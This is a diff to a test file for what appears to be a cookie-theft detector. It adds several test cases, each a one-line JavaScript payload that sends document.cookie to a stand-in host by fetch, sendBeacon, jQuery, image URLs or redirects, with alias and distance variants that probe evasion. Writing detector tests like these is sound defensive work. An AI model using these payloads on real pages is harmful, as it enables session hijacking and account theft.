@@ -35,14 +35,21 @@ describe('cookies', () => {
     ['keeps them written for an address', `let c=encodeURIComponent(document.cookie);location='http://a.test/'+c`],
     ['keeps them for a template', `const c=document.cookie;fetch(\`https://a.test/?c=\${encodeURIComponent(c)}\`)`],
     ['sends them in a body', `var c=document.cookie;fetch('https://a.test/',{method:'POST',body:c})`],
+    ['has them fetched by a library', `$.get('https://a.test/?c='+document.cookie)`],
+    ['leaves them behind', `navigator.sendBeacon('https://a.test/',document.cookie)`],
+    ['keeps them in a function', `function g(){return document.cookie}new Image().src='http://a.test/?c='+escape(g())`],
+    ['keeps them under two names', `var a=document.cookie,b=a;new Image().src='http://a.test/?c='+escape(b)`],
     ['has them behind a sign in a template', `fetch(\`https://a.test/?c=\${document.cookie}\`)`],
     ['has them in a path of a template', `new Image().src=\`//a.test/\${btoa(document.cookie)}\``],
   ])('who %s steals them', (_how, code) => expect(worstOf(code)).toBe('decisive'))
-  test('under a second name, or far away, they are at least suspected', () => {
-    const far = `var t=document.cookie;${'f(1);'.repeat(200)}navigator.sendBeacon('http://a.test/?c='+t)`
-    expect(worstOf(far)).toBe('strong')
-    expect(worstOf(`var a=document.cookie,b=a;new Image().src='http://a.test/?c='+escape(b)`)).toBe('strong')
-  })
+  test.each([
+    ['far away', `var t=document.cookie;${'f(1);'.repeat(200)}navigator.sendBeacon('http://a.test/?c='+t)`],
+    ['taken apart', `var a=document.cookie,b=a.split('=')[1];new Image().src='http://a.test/?c='+escape(b)`],
+    [
+      'picked for a header',
+      `fetch('https://api.shop.test/x',{method:'POST',headers:{'X-CSRFToken':document.cookie.match(/csrf=([^;]+)/)[1]}})`,
+    ],
+  ])('%s they are only suspected', (_where, code) => expect(worstOf(code)).toBe('strong'))
 })
 
 const sendsFields = (more: string, options = ''): string =>
